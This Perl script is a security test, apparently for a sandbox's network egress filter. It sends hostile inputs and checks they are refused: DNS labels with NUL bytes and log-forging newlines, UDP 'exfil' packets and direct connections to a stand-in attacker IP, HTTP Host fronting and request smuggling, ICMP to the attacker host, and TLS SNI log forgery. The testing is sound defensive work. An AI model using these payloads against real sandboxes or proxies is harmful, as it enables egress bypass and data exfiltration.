#!/usr/bin/perl
# Runs INSIDE the sandbox as root (perl-base only: no modules beyond Socket/IO), after
# tests/security/attack_lib.pl
# (say_result, dns_query, tcp_exchange, $gw).
# Each attack prints NAME=OUTCOME; tests/security/network.sh says what must hold.
# The placeholder of the secret bound to secret.test is in $ENV{TOKEN}.
my $token = $ENV{TOKEN} // '';

# ---- DNS: raw queries to the sandbox's resolver ---------------------------------------
# dns_raw(LABELS_ARRAYREF, QTYPE) -> "rcode=N answers=M" or "timeout"
sub dns_raw { return (dns_query(@_))[0]; }

say_result('dns_nul_label', dns_raw(["evil", "test\0", "allowed", "test"]));
say_result('dns_nul_ip_label', dns_raw(["203", "0", "113", "66\0", "allowed", "test"]));
say_result('dns_dot_in_label', dns_raw(["evil.test", "allowed", "test"]));
say_result('dns_underscore', dns_raw(["a_b", "allowed", "test"]));
say_result('dns_numeric', dns_raw(["2130706433"]));
say_result('dns_hex_ip', dns_raw(["0x7f", "1"]));
say_result('dns_deny_rule', dns_raw(["deny", "allowed", "test"]));
say_result('dns_deny_rule_case', dns_raw(["DENY", "Allowed", "TEST"]));
say_result('dns_deny_nul_suffix', dns_raw(["deny", "allowed", "test\0"]));
# A forged audit line: newline + ESC inside a denied name.
say_result('dns_log_forgery', dns_raw(["x\n2099-01-01 allow forged.test\e[2J\a", "denied", "test"]));
say_result('dns_allowed_sanity', dns_raw(["x", "allowed", "test"]));
say_result('dns_aaaa_allowed', dns_raw(["allowed", "test"], 28));

# DNS to another resolver (the attacker's, by IP): only the gateway answers DNS; UDP to
# any other address gets ICMP "administratively prohibited" and nothing leaves.
{
  my $s = IO::Socket::INET->new(Proto => 'udp', PeerAddr => '203.0.113.66', PeerPort => 53);
  $s->send(pack('n n n n n n', 7, 0x0100, 1, 0, 0, 0) . "\4evil\4test\0" . pack('n n', 1, 1));
  my $sel = IO::Select->new($s);
  my $r = '';
  $s->recv($r, 4096) if $sel->can_read(3);
  say_result('dns_external_resolver', $r eq '' ? 'no-answer' : sprintf("rcode=%d", unpack('x3 C', $r) & 0xf));
  my $u = IO::Socket::INET->new(Proto => 'udp', PeerAddr => '203.0.113.66', PeerPort => 9999);
  $u->send("exfil-over-udp") for 1 .. 3;
}

my $ka = "Host: allowed.test\r\n";
say_result('tcp_direct_ip_80', tcp_exchange('203.0.113.66', 80, "GET / HTTP/1.1\r\nHost: 203.0.113.66\r\n\r\n"));
say_result('tcp_direct_ip_22', tcp_exchange('203.0.113.66', 22, undef, 3));
say_result('tcp_gateway_53', tcp_exchange($gw, 53, "\0\0", 3));
say_result('http_front_host', tcp_exchange('allowed.test', 80, "GET /front HTTP/1.1\r\nHost: evil.test\r\n\r\n"));
say_result('http_front_host_port', tcp_exchange('allowed.test', 80, "GET /front HTTP/1.1\r\nHost: evil.test:80\r\n\r\n"));
say_result('http_dup_host', tcp_exchange('allowed.test', 80, "GET /dup HTTP/1.1\r\n${ka}Host: evil.test\r\n\r\n"));
say_result('http_dup_host_rev', tcp_exchange('allowed.test', 80, "GET /dup HTTP/1.1\r\nHost: evil.test\r\n$ka\r\n"));
say_result('http_no_host', tcp_exchange('allowed.test', 80, "GET /nohost HTTP/1.0\r\n\r\n"));
say_result('http_nul_host', tcp_exchange('allowed.test', 80, "GET /nul HTTP/1.1\r\nHost: evil.test\0.allowed.test\r\n\r\n"));
say_result('http_absolute_other', tcp_exchange('allowed.test', 80, "GET http://evil.test/abs HTTP/1.1\r\n$ka\r\n"));
say_result('http_absolute_userinfo', tcp_exchange('allowed.test', 80, "GET http://allowed.test\@evil.test/abs HTTP/1.1\r\n$ka\r\n"));
say_result('http_absolute_same', tcp_exchange('allowed.test', 80, "GET http://allowed.test/abs-ok HTTP/1.1\r\n$ka\r\n"));
say_result('http_propfind_front', tcp_exchange('allowed.test', 80, "PROPFIND /dav HTTP/1.1\r\nHost: evil.test\r\n\r\n"));
say_result('http_lowercase_front', tcp_exchange('allowed.test', 80, "get /lc HTTP/1.1\r\nHost: evil.test\r\n\r\n"));
say_result('http_connect', tcp_exchange('allowed.test', 80, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"));
say_result('http_folding', tcp_exchange('allowed.test', 80, "GET /fold HTTP/1.1\r\n${ka}X-A: a\r\n Host: evil.test\r\n\r\n"));
say_result('http_cl_te', tcp_exchange('allowed.test', 80,
  "POST /smuggle HTTP/1.1\r\n${ka}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: evil.test\r\n\r\n"));
say_result('http_te_obfuscated', tcp_exchange('allowed.test', 80,
  "POST /smuggle2 HTTP/1.1\r\n${ka}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"));
say_result('http_chunked_bare_lf', tcp_exchange('allowed.test', 80,
  "POST /chunk-lf HTTP/1.1\r\n${ka}Transfer-Encoding: chunked\r\n\r\n5\nhello\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n", 5));
say_result('http_chunked_trailer_request', tcp_exchange('allowed.test', 80,
  "POST /chunk-tr HTTP/1.1\r\n${ka}Transfer-Encoding: chunked\r\n\r\n0\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n", 5));
say_result('http_h2c_upgrade', tcp_exchange('allowed.test', 80,
  "GET /h2c HTTP/1.1\r\n${ka}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"));
say_result('http_leading_crlf', tcp_exchange('allowed.test', 80, "\r\nGET /crlf HTTP/1.1\r\nHost: evil.test\r\n\r\n"));
say_result('http_garbage_port80', tcp_exchange('allowed.test', 80, "HELO evil\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"));
say_result('http_h2_prior_knowledge', tcp_exchange('allowed.test', 80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
say_result('http_esc_in_header', tcp_exchange('allowed.test', 80, "GET /esc HTTP/1.1\r\n${ka}X-A: \e[2J\r\n\r\n"));
say_result('http_placeholder_plain', tcp_exchange('allowed.test', 80, "GET /ph HTTP/1.1\r\n${ka}X-Token: $token\r\n\r\n"));
say_result('http_placeholder_plain_secret_host', tcp_exchange('secret.test', 80, "GET /ph HTTP/1.1\r\nHost: secret.test\r\nX-Token: $token\r\n\r\n"));
# A keep-alive connection whose SECOND request fronts: each request is checked.
{
  my $s = IO::Socket::INET->new(PeerAddr => 'allowed.test', PeerPort => 80, Proto => 'tcp', Timeout => 10);
  print $s "GET /first HTTP/1.1\r\n$ka\r\nGET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n";
  my $all = '';
  my $sel = IO::Select->new($s);
  while ($sel->can_read(10)) { my $n = sysread($s, my $c, 65536); last unless $n; $all .= $c; }
  my @codes = ($all =~ /^HTTP\/1\.1 (\d+)/mg);
  say_result('http_pipelined_front', join(',', @codes));
}
# ---- ICMP echo to the attacker's host (raw socket, as root) -------------------------------
{
  my $ok = socket(my $icmp, PF_INET, SOCK_RAW, 1);
  if (!$ok) { say_result('icmp_evil', 'no-raw-socket'); }
  else {
    my $body = "matchlock-sec";
    my $pkt = pack('C C n n n', 8, 0, 0, 0x1234, 1) . $body;
    my $sum = 0; $sum += $_ for unpack('n*', $pkt . (length($pkt) % 2 ? "\0" : ''));
    $sum = ($sum >> 16) + ($sum & 0xffff); $sum += $sum >> 16;
    substr($pkt, 2, 2) = pack('n', ~$sum & 0xffff);
    send($icmp, $pkt, 0, sockaddr_in(0, inet_aton('203.0.113.66')));
    my $sel = IO::Select->new($icmp);
    my $reply = 'no-reply';
    my $deadline = time + 3;
    while (time < $deadline && $sel->can_read($deadline - time)) {
      recv($icmp, my $r, 1500, 0);
      my $ihl = (ord($r) & 15) * 4;
      $reply = 'reply' if length($r) > $ihl && ord(substr($r, $ihl, 1)) == 0 && inet_ntoa(substr($r, 12, 4)) eq '203.0.113.66';
    }
    say_result('icmp_evil', $reply);
  }
}

# ---- a TLS ClientHello whose SNI forges an audit line (to a refused address) -------------
sub sni_ext { my ($sni) = @_; my $b = pack('n', length($sni) + 3) . pack('C n', 0, length($sni)) . $sni; return pack('n n', 0, length($b)) . $b; }
sub client_hello {
  my ($sni, $more) = @_;
  my $exts = sni_ext($sni) . ($more // '');
  my $body = pack('n', 0x0303) . ('r' x 32) . pack('C', 0) . pack('n n', 2, 0x002f) . pack('C C', 1, 0)
           . pack('n', length($exts)) . $exts;
  my $hs = pack('C', 1) . substr(pack('N', length($body)), 1) . $body;
  return pack('C n n', 22, 0x0301, length($hs)) . $hs;
}
{
  my $forged = "x\n2099-01-01T00:00:00.000Z  tls   allow  forged.test:443\e[2J\e]0;pwned\a";
  my $r = tcp_exchange('203.0.113.66', 443, client_hello($forged), 5);
  say_result('tls_sni_log_forgery', $r =~ /^\x15/ ? 'alert' : $r);
}
# Two SNI extensions (we would check the first; a server may route by the second), and an
# encrypted ClientHello (the server acts on a hidden inner name): both refused on an allowed host.
say_result('tls_two_sni', tcp_exchange('allowed.test', 443, client_hello('allowed.test', sni_ext('evil.test')), 5) =~ /^\x15/ ? 'alert' : 'passed');
say_result('tls_ech', tcp_exchange('allowed.test', 443, client_hello('allowed.test', pack('n n', 0xfe0d, 4) . 'ech!'), 5) =~ /^\x15/ ? 'alert' : 'passed');
print "done=1\n";
